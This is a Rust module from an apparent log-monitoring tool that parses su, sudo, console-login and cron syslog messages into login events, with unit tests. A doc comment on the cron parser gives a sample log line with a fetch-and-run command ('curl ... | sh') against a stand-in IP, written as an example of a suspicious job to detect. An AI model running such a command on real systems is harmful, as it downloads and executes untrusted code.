//! login, su, sudo and cron: shadow (`src/login.c`, `src/su.c`), util-linux (`login-utils/`), sudo (`lib/eventlog/`), cronie.
//! <https://github.com/shadow-maint/shadow> <https://github.com/util-linux/util-linux> <https://github.com/sudo-project/sudo>

use super::wording::{after_any, field, holds, number, part, part_last, until, word};
use super::{Deed, Login, Outcome, RootCommand};

pub(super) fn read(message: &[u8]) -> Option<Login<'_>> {
    su(message).or_else(|| console(message)).or_else(|| cron(message)).or_else(|| sudo(message))
}

/// `FAILED su for root by ann`, `Successful su for root by ann`, `FAILED SU (to root) ann on pts/0`, `'su root' failed for ann on /dev/pts/1`.
fn su(message: &[u8]) -> Option<Login<'_>> {
    if let Some(rest) = after_any(message, &["FAILED su for ", "Successful su for "]) {
        let (target, user) = part(rest, b" by ")?;
        let outcome = if message[0] == b'F' { Outcome::SudoFailed } else { Outcome::Elevated };
        return Some(Login::new(outcome, user, b"", target));
    }
    if let Some((target, rest)) = after_any(message, &["FAILED SU (to ", "(to "]).and_then(|rest| part(rest, b") ")) {
        let outcome = if message[0] == b'F' { Outcome::SudoFailed } else { Outcome::Elevated };
        let (user, _) = part(rest, b" on ")?;
        return Some(Login::new(outcome, user, b"", target));
    }
    let (target, rest) = part(message.strip_prefix(b"'su ")?, b"' failed for ")?;
    Some(Login::new(Outcome::SudoFailed, part(rest, b" on ").map_or(rest, |(user, _)| user), b"", target))
}

/// `FAILED LOGIN 1 FROM tty1 FOR root, …`, `FAILED LOGIN (1) on '/dev/tty1' FOR 'root', …`, `LOGIN ON tty1 BY ann`.
fn console(message: &[u8]) -> Option<Login<'_>> {
    if let Some(rest) = message.strip_prefix(b"FAILED LOGIN ") {
        let (front, named) = part_last(rest, b" FOR ")?;
        let user = until(named, b',');
        let user = user.strip_prefix(b"'").map_or(user, |user| user.strip_suffix(b"'").unwrap_or(user));
        let source = part(front, b" FROM ").map_or(b"".as_slice(), |(_, source)| word(source));
        let source = if source.starts_with(b"tty") { b"" } else { source };
        return Some(Login::new(Outcome::Failed, user, source, b"console"));
    }
    if let Some((_, rest)) = part(message, b"LOGIN ON ").filter(|(front, _)| front.is_empty() || *front == b"ROOT ") {
        let (user, from) = part(rest, b" BY ").map_or((b"root".as_slice(), rest), |(_, user)| (word(user), user));
        let source = part(from, b" FROM ").map_or(b"".as_slice(), |(_, source)| word(source));
        return Some(Login::new(Outcome::Accepted, user, source, b"console"));
    }
    None
}

/// `(ann) AUTH (crontab command not allowed)`, `(ann) CMD (curl http://192.0.2.9/x | sh)`
fn cron(message: &[u8]) -> Option<Login<'_>> {
    let rest = message.strip_prefix(b"(")?;
    if let Some((user, command)) = part(rest, b") CMD (") {
        let command = command.strip_suffix(b")").unwrap_or(command);
        let is_told = !user.contains(&b' ') && RootCommand::is_of_a_job(command);
        return is_told.then(|| Login::new(Outcome::Did(Deed::Job), user, b"", command));
    }
    let (user, _) = part(rest, b") AUTH (crontab command not allowed)")?;
    Some(Login::new(Outcome::SudoDenied, user, b"", b"crontab"))
}

/// `ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh`
fn sudo(message: &[u8]) -> Option<Login<'_>> {
    let (user, rest) = part(message, b" : ")?;
    if user.contains(&b' ') && !user.starts_with(b"  ") || user.len() > 256 {
        return None;
    }
    let user = user.trim_ascii();
    // What was asked for stands last, and is the user's to choose.
    let (front, command) = part(rest, b" ; COMMAND=").or_else(|| part(rest, b"COMMAND=")).unwrap_or((rest, b""));
    let told = |outcome| Some(Login::new(outcome, user, b"", command));
    let denied = ["user NOT in sudoers", "command not allowed", "user NOT authorized on host"];
    if after_any(front, &denied).is_some() {
        return told(Outcome::SudoDenied);
    }
    if holds(&front[..front.len().min(40)], b"incorrect password attempt") {
        let login = Login::new(Outcome::SudoFailed, user, b"", command);
        return Some(Login { attempts: number(front).max(1), ..login });
    }
    let ran = !command.is_empty() && holds(front, b"PWD=") && !field(front, b"USER=").is_empty();
    if ran { told(Outcome::Elevated) } else { None }
}

#[cfg(test)]
mod tests {
    use super::super::{check, read as login, told};
    use super::*;

    #[test]
    fn ok_messages() {
        check(&[
            ("FAILED su for root by ann", Outcome::SudoFailed, "ann", ""),
            ("Successful su for root by ann", Outcome::Elevated, "ann", ""),
            ("FAILED SU (to root) ann on pts/0", Outcome::SudoFailed, "ann", ""),
            ("(to root) ann on pts/0", Outcome::Elevated, "ann", ""),
            ("'su root' failed for ann on /dev/pts/1", Outcome::SudoFailed, "ann", ""),
            ("FAILED LOGIN 1 FROM 192.0.2.9 FOR root, Authentication failure", Outcome::Failed, "root", "192.0.2.9"),
            ("FAILED LOGIN (1) on '/dev/tty1' FOR 'ann', Authentication failure", Outcome::Failed, "ann", ""),
            ("ROOT LOGIN ON tty1", Outcome::Accepted, "root", ""),
            ("LOGIN ON tty1 BY ann FROM 192.0.2.9", Outcome::Accepted, "ann", "192.0.2.9"),
            ("(ann) AUTH (crontab command not allowed)", Outcome::SudoDenied, "ann", ""),
            (
                "     ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
                Outcome::SudoDenied,
                "ann",
                "",
            ),
            ("ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls", Outcome::Elevated, "ann", ""),
        ]);
        let found =
            login(b"ann : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/x").unwrap();
        assert_eq!((found.outcome, found.attempts, found.method), (Outcome::SudoFailed, 3, b"/bin/x".as_slice()));
    }

    #[test]
    fn err_near_misses() {
        for message in [
            "ann : hello",
            "a b c : user NOT in sudoers",
            "(ann) CMD (run-parts /etc/cron.hourly)",
            "LOGIN",
            "ann : TTY=pts/0 ; PWD=/ ; USER=root",
        ] {
            assert_eq!(told(message), None, "{message}");
        }
    }
}
